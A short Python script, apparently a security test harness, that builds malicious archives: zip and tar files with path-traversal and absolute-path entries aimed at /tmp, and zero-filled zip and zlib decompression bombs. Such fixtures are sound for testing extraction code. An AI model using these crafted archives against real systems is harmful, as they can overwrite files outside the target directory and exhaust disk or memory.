"""Leaves archives that are small and unpack to gigabytes, and archives that unpack over other files."""

import io
import tarfile
import zipfile
import zlib

from attack import contained

with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bomb:
    for number in range(4):
        bomb.writestr(f"{number}", b"\0" * (20 << 20))
    bomb.writestr("../../../../tmp/owned-by-zip", "x")
with tarfile.open("bomb.tar", "w") as archive:
    for name in ("../../../../tmp/owned-by-tar", "/tmp/owned-by-tar"):
        member = tarfile.TarInfo(name)
        member.size = 1
        archive.addfile(member, io.BytesIO(b"x"))
packer = zlib.compressobj(1)
with open("bomb.zlib", "wb") as file:
    for _ in range(10):
        file.write(packer.compress(b"\0" * (10 << 20)))
    file.write(packer.flush())
open("good.txt", "w").close()
contained("the archives were made")
